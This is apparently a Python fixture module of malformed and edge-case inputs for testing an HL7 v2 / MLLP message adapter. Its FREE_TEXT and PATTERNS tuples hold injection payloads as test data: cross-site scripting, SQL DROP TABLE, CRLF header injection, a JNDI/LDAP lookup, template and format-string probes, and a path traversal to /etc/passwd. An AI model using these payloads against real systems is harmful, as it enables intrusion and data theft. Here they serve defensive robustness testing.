"""The odd forms a message or a stream can take; the cases here and the catalogue of bad input are both made of them."""

from collections.abc import Sequence

from adapter.hl7.lines import BOM
from adapter.hl7.mllp import END, START

# --- bytes on a line ---------------------------------------------------------------------------------------------------

BLANK_NOISE = b"\r\n \r\n\x00"
HTTP_REQUEST = b"GET / HTTP/1.1\r\nHost: x\r\n" * 60
TLS_GREETING = b"\x16\x03\x01" + bytes(2000)
HALF_FRAME = START + b"MSH|^~\\&|half"
EMPTY_FRAME = START + END
COMMIT_BYTES = {"framed ACK": START + b"\x06" + END, "framed NAK": START + b"\x15" + END, "bare": b"\x06\x15"}
"""MLLP release 2's own acknowledgments."""
XML_FRAME = START + b'<?xml version="1.0"?><ORU_R01 xmlns="urn:hl7-org:v2xml"><MSH/></ORU_R01>' + END


def without_cr(payload: bytes) -> bytes:
    """A frame that ends with FS alone."""
    return START + payload + END[:1]


# --- bytes of a message ------------------------------------------------------------------------------------------------

FS_IN_DATA = "NTE|1||a\x1cb"
NUL_IN_NOTE = "NTE|1||a\x00b"
LAST_WORDS = b"--- end of page 1 ---"
ONLY_BARS = "PID||||"
CONTINUATIONS = {"DSC": "DSC|next|F", "ADD": "ADD|rest"}
UNKNOWN_SEGMENTS = ("ZZ1|1|whatever", "NK1|1|DOE^JOHN")
ODD_ID = b"x" * 150 + b" \xe9 <&>\"' \\T\\ {$} ;--/*%00" + b"y" * 24
"""199 characters for MSH-10, the longest of HL7 2.9."""
OWN_SEPARATORS = bytes.maketrans(b"|^~\\&", b"#!@?%")


def with_lf(body: bytes) -> bytes:
    return body.replace(b"\r", b"\n")


def with_crlf(body: bytes) -> bytes:
    return body.replace(b"\r", b"\r\n")


def marked(body: bytes) -> bytes:
    """After a UTF-8 byte order mark."""
    return BOM + body


def utf_16(body: bytes) -> bytes:
    return body.decode().encode("utf-16-le")


def latin_e(body: bytes) -> bytes:
    """Every é in ISO 8859-1, where UTF-8 is expected."""
    return body.replace("é".encode(), b"\xe9")


def in_own_separators(body: bytes) -> bytes:
    return body.translate(OWN_SEPARATORS)


def with_fifth_mark(body: bytes) -> bytes:
    """MSH-2 of v2.7."""
    return body.replace(b"^~\\&|", b"^~\\&#|", 1)


BROKEN_MARKS = {"missing": (b"MSH|^~\\&|", b"MSH||"), "short": (b"^~\\&|", b"^~|"), "repeating": (b"^~\\&|", b"^^\\&|")}


def with_broken_marks(body: bytes, how: str) -> bytes:
    """MSH-2 `missing`, `short` or `repeating`."""
    return body.replace(*BROKEN_MARKS[how], 1)


def enveloped(bodies: Sequence[bytes], *, files: bool = True, count: int | None = None) -> bytes:
    """A batch, in a file where `files`; `count` is what BTS-1 claims."""
    batch = b"BHS|^~\\&\r" + b"".join(bodies) + b"BTS|%d\r" % (len(bodies) if count is None else count)
    return b"FHS|^~\\&\r" + batch + b"FTS|1\r" if files else batch


# --- words in a field --------------------------------------------------------------------------------------------------

ESCAPES = "A\\F\\B\\S\\C\\T\\D\\R\\E\\E\\F\\.br\\G\\X0D\\H"
BROKEN_ESCAPES = "A\\Cxx\\B\\"
DOUBLE_ESCAPE = "\\E\\F\\E\\"
NO_NUMBERS = ("1:40", "+++", "haemolysed", "see note", "pending")
ONLY_PROGRAMS_READ = ("NaN", "inf", "1e400", "0x1F", "1_000", "١٢", "１２")
GROUPED = ("4.420", "4,420")
NO_TIMES = ("20260229", "20261301", "2026", "2026111")
MICRO_SIGNS = ("\u00b5g/L", "\u03bcg/L", "mcg/L")
BOUNDS = (">5000", ">4000", "<0.5", ">100000")
FREE_TEXT = ("=HYPERLINK(1)", "<script>alert(1)</script>", "'; DROP TABLE inbox;--", "X\\X0D\\\\X0A\\Bcc: a@b.example")
PATTERNS = ("${jndi:ldap://x/a}", "{{7*7}}", "%s%n%x", "../../etc/passwd")
INVISIBLE = "A\u202eBC\u200bD\u2066E"
NAMES = {
    "Greek": "ΓΕΩΡΓΙΟΥ",
    "Cyrillic": "Щербаков^Фёдор",
    "Chinese": "王^小明",
    "combining marks": "e\u0301\u0323te\u0301",
}
"""MSH-18 silent: UTF-8."""
JAPANESE = "山田".encode("iso2022_jp")
